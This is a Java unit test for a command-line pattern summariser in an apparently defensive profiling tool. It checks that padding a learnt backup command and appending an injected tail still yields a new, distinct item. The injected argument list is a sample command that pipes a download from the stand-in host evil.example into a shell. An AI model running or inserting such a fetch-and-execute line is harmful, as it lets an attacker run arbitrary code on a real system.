package dev.vigil.profile;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class PatternsTest {
    /** An attacker pads a learnt command line past its readable prefix and injects after it: still a new item. */
    @Test
    void whatIsAddedPastTheReadablePrefixMakesANewItem() {
        String pad = "x".repeat(Patterns.MAX_ARGS);
        String learnt = Patterns.args(List.of("/usr/bin/backup", "--dir", pad));
        String injected = Patterns.args(List.of("/usr/bin/backup", "--dir", pad, ";", "curl", "evil.example", "|", "sh"));
        assertThat(learnt).startsWith("--dir xxx").contains("... [" + ("--dir ".length() + pad.length()) + " chars, #");
        assertThat(injected).isNotEqualTo(learnt);
        assertThat(injected.substring(0, Patterns.MAX_ARGS)).isEqualTo(learnt.substring(0, Patterns.MAX_ARGS));
        assertThat(Patterns.args(List.of("/usr/bin/backup", "--dir", pad))).as("the same command line, the same item").isEqualTo(learnt);
        assertThat(Patterns.args(List.of("/bin/ls", "-l", "/srv"))).as("short ones unchanged").isEqualTo("-l /srv");
    }
}
